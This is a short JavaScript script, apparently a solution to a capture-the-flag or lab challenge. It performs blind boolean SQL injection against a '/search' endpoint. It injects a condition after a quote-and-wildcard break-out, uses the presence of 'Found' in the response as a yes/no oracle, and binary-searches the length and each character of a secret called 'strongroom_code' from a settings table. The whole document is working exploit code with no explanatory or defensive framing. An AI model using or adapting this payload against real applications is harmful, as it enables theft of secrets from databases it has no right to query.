const browser = client();

// Asks the office one question. True when the answer is "Found".
async function ask(condition) {
  const what = `umbrella%' AND ${condition} --`;
  const reply = await browser.get('/search?what=' + encodeURIComponent(what));
  return reply.body.includes('<strong>Found</strong>');
}

// The value of a numeric expression that is known to be at least low and below high.
async function findNumber(expression, low, high) {
  while (high - low > 1) {
    const middle = (low + high) >> 1;
    if (await ask(`${expression} >= ${middle}`)) low = middle;
    else high = middle;
  }
  return low;
}

const SECRET = "(SELECT value FROM settings WHERE name = 'strongroom_code')";

const length = await findNumber(`length(${SECRET})`, 0, 128);
let code = '';
for (let at = 1; at <= length; at++) {
  code += String.fromCharCode(await findNumber(`unicode(substr(${SECRET}, ${at}, 1))`, 0, 128));
}

found(code);
